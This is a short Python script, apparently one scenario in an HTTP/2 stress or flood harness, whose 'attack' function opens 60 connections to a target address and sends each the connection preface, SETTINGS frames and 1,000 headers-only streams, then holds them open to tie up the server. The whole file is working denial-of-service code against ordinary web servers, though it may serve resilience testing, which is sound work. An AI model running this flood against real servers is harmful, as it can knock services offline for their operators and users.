"""Sixty thousand calls of which nothing but the headers comes, on 60 connections of clients that know how many they may have."""

import socket

import flood
from http2_connection import ACK, END_HEADERS, HEADERS, PREFACE, SETTINGS, frame

CONNECTIONS = 60
STREAMS = 1_000


def attack(options, _, deadline):
    host, _, port = options.address.rpartition(":")
    block = flood.header_block()
    streams = b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in range(1, 2 * STREAMS, 2))
    with socket.create_connection((host, int(port)), timeout=flood.SEND_S) as connection:
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0) + streams)
        flood.wait_until(deadline)


if __name__ == "__main__":
    flood.run(attack, connections=CONNECTIONS)
